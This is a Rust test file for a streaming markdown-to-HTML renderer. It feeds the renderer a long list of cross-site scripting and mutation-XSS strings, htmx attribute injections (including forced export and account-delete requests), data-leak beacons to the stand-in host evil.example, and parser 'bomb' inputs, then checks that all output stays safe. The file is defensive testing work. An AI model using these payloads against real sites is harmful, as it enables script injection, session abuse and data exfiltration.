//! The corpus of attacks, streamed so finely that every prefix is shown once.

use super::model::{Viewer, stream};
use super::safety;
use crate::markdown::full;
use crate::markdown::live::Live;

const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><a><animate attributeName=href values=javascript:alert(1)><text y=9>x",
    "<svg><a><set attributeName=href to=javascript:alert(1)></set><text y=9>x",
    "<svg><use href=\"data:image/svg+xml;base64,AAAA#x\"/>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><title><img title=\"</title><img src=x onerror=alert(1)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](java&#9;script:alert(1))",
    "[x](<  JaVaScRiPt:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "![x](https://evil.example/p?d=SECRET)",
    "![x][e]\n\n[e]: https://evil.example/p",
    "![x](//evil.example/p)",
    "![x](/\\evil.example/p)",
    "<img srcset=\"https://evil.example/p 1x\">",
    "<p style=\"background:url(https://evil.example/p)\">",
    "<style>@import url(https://evil.example/c)</style>",
    "<link rel=dns-prefetch href=//SECRET.evil.example>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=https://evil.example/>",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\">",
    "<object data=\"data:text/html,<script>alert(1)</script>\">",
    "<div hx-get=/api/me/export hx-trigger=load>",
    "<div data-hx-post=/account/delete data-hx-trigger=load>",
    "<button hx-on:click=\"alert(1)\" hx-on::load=\"alert(1)\">",
    "<div hx-sse:connect=/x sse-connect=https://evil.example/s sse-swap=m>",
    "<div hx-ws:connect=wss://evil.example/ ws-connect=wss://evil.example/>",
    "<div id=messages hx-swap-oob=true>owned</div>",
    "<div hx-swap-oob=\"innerHTML:body\">owned</div>",
    "<hx-partial hx-target=body hx-swap=innerHTML>owned</hx-partial>",
    "<a href=/x title=\"<hx-x onfocus=alert(1) autofocus >\">x</a>",
    "[x](/y '<hx-x onmouseover=alert(1) >')",
    "[x](https://ok.example/<hx-x '<hx-x onmouseover=alert(1) >')",
    "[x](<https://ok.example/<hx-x onmouseover=alert(1) > '<hx-x onmouseover=alert(1) >')",
    "![<hx-x onerror=alert(1) >](/nope.png)",
    "![<hx-x onerror=alert(1) >](https://ok.example/nope.png)",
    "<a title=\"<head>\">x</a> \u{2026} <a title=\"</head>\">",
    "```js\" onmouseover=\"alert(1)\nc\n```",
    "```x\" hx-get=\"/logout\" hx-trigger=\"load\nc\n```",
    "```rust {onclick=alert(1) #messages .modal}\nc\n```",
    "# t {#messages .fixed hx-get=/x}",
    "[x](/y){hx-get=/x target=_top}",
    "# composer\n\n<a id=htmx></a><a id=htmx name=config href=cid:x></a><form name=cookie>",
    "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>",
    "<div class=\"fixed inset-0 modal\">Session expired <a href=https://evil.example>log in</a>",
    "a\u{202E}txt.exe [ok](https://good.example\u{202E}/live) &#x202E; [e](https://good.example/&#8238;x)",
    "$$\\href{javascript:alert(1)}{x} \\htmlData{hx-get=/x}{y}$$",
    "$</span><img src=x onerror=alert(1)>$",
    "x[^\"><img src=x onerror=alert(1)>]\n\n[^\"><img src=x onerror=alert(1)>]: y",
    "<details open ontoggle=alert(1)>",
    "</template></main></body><div id=evil>",
    "</textarea></title></style><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<plaintext>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<a href=\"javascript:alert(1)\" onclick=\"alert(1) <b",
    "```html\n<hx-partial hx-target=body><script>alert(1)</script>\n```\n`<hx-x onerror=alert(1) >`",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#13; &#0; &#60;hx-x &#62;",
    "<figure class=\"code\"></figure>",
    "- <figure class=\"code\"></figure>\n\n  ```\n  x\n  ```\n",
    "[x](https://a.example/\"onclick=alert(1)) <https://a.example/'x\">",
    "[![x](https://evil.example/i.png)](https://b.example)",
    "| <hx-x onfocus=alert(1) > |\n|-|\n| [x](javascript:alert(1)) <script> |",
    "~~~language-x onload\n</code></pre><script>\n",
];

/// Where in a text a payload may stand.
const PLACES: &[(&str, &str)] = &[
    ("", ""),
    ("some text ", " more\n"),
    ("- item ", "\n- next\n"),
    ("> ", "\n\nafter\n"),
    ("| a | b |\n|---|---|\n| ", " | y |\n\nend"),
    ("```rust\n", "\n```\n"),
    ("1. a\n\n   ```html\n   ", "\n   ```\n2. b\n"),
];

#[test]
fn every_prefix_of_every_payload_is_safe() {
    for payload in PAYLOADS {
        for size in [1, 2, 3, 7] {
            let viewer = stream(payload, size, true);
            assert_eq!(viewer.blocks, full::render(payload));
        }
    }
}

#[test]
fn payloads_are_safe_wherever_they_stand() {
    for payload in PAYLOADS {
        for (before, after) in PLACES {
            let text = format!("{before}{payload}{after}");
            let viewer = stream(&text, 3, true);
            assert_eq!(viewer.blocks, full::render(&text));
        }
    }
}

#[test]
fn every_prefix_is_safe_as_a_finished_text() {
    for payload in PAYLOADS {
        for (end, _) in payload.char_indices() {
            for block in full::render(&payload[..end]) {
                assert_eq!(safety::check(&block), 1);
            }
        }
    }
}

#[test]
fn images_elsewhere_are_links_and_never_load() {
    let html = full::to_html("![a cat](https://evil.example/p?d=SECRET)");
    assert!(!html.contains("<img"));
    assert!(html.contains("a cat <a href=\"https://evil.example/p?d=SECRET\""), "{html}");
}

#[test]
fn bombs_stay_small_and_end() {
    let bombs = [
        ">".repeat(20_000),
        "> ".repeat(10_000),
        "<div>".repeat(40_000),
        "<div>\n".repeat(40_000),
        format!("|{}\n|{}\n{}", "a|".repeat(2_000), "-|".repeat(2_000), "|x\n".repeat(500)),
        format!("|{}\n|{}\n{}", "a|".repeat(60), "-|".repeat(60), "|\n".repeat(20_000)),
        (0..400).map(|i| format!("{}- x\n", " ".repeat(2 * i))).collect(),
        "- ".repeat(10_000),
        "1. ".repeat(10_000),
        "[^a]: ".repeat(5_000),
        "[a](".repeat(5_000),
        "[".repeat(40_000),
        "![".repeat(20_000),
        "*a **a ".repeat(6_000),
        "*".repeat(40_000),
        "a**b".repeat(10_000) + &"c* ".repeat(10_000),
        "_a ".repeat(20_000),
        "`".repeat(40_000),
        (1..280).map(|n| "`".repeat(n) + "a").collect(),
        "~a ~~b ".repeat(6_000),
        "$a ".repeat(20_000),
        "<!--".repeat(10_000),
        "a <!--".repeat(10_000),
        "a <?".repeat(10_000),
        "a <![CDATA[".repeat(5_000),
        "a <a ".repeat(10_000),
        "<a b='".repeat(8_000),
        "[a]: b\n".repeat(5_000) + &"[a]".repeat(5_000),
        format!("[a]: <https://x.example/{}>\n\n{}", "y".repeat(5_000), "[a] ".repeat(5_000)),
        "www.a.".repeat(8_000),
        "a@b.".repeat(10_000),
        "http://".repeat(8_000),
        "\\".repeat(40_000),
        "&".repeat(40_000),
        "\n".repeat(40_000),
        format!("```\n{}", "\n".repeat(40_000)),
        format!("- a\n{}", "\n".repeat(40_000)),
        format!("```rust\n{}", "(".repeat(40_000)),
        format!("```json\n{}", "[".repeat(1_500) + "\n" + &"[1,\n".repeat(5_000)),
        "\t".repeat(20_000) + "x",
        "# ".repeat(20_000),
        "x[^1]".repeat(5_000) + "\n\n[^1]: y",
    ];
    for bomb in bombs {
        let head: String = bomb.chars().take(24).collect();
        super::growth::reset();
        let start = std::time::Instant::now();
        let viewer = stream(&bomb, 997, false);
        eprintln!(
            "{head:?}: {} -> {} bytes, {:?}, {:?}",
            bomb.len(),
            viewer.received,
            super::growth::taken(),
            start.elapsed()
        );
        let page: usize = viewer.blocks.iter().map(String::len).sum();
        assert!(page <= 2_000_000, "{head:?}: page of {page} bytes from {}", bomb.len());
        for block in &viewer.blocks {
            assert_eq!(safety::check(block), 1);
        }
    }
}

#[test]
fn a_dropped_viewer_is_told_everything_again_by_the_state() {
    let text = "# a\n\n- b\n- c\n\n| x |\n|-|\n| 1 |\n\n```rust\nfn a() {}\nlet";
    let mut live = Live::new();
    let mut viewer = Viewer::default();
    for c in text.chars() {
        viewer.apply(live.push(c.encode_utf8(&mut [0; 4])), true);
        viewer.agrees_with(&live);
    }
    viewer.apply(live.finish(), true);
    viewer.agrees_with(&live);
    assert_eq!(live.text(), text);
}
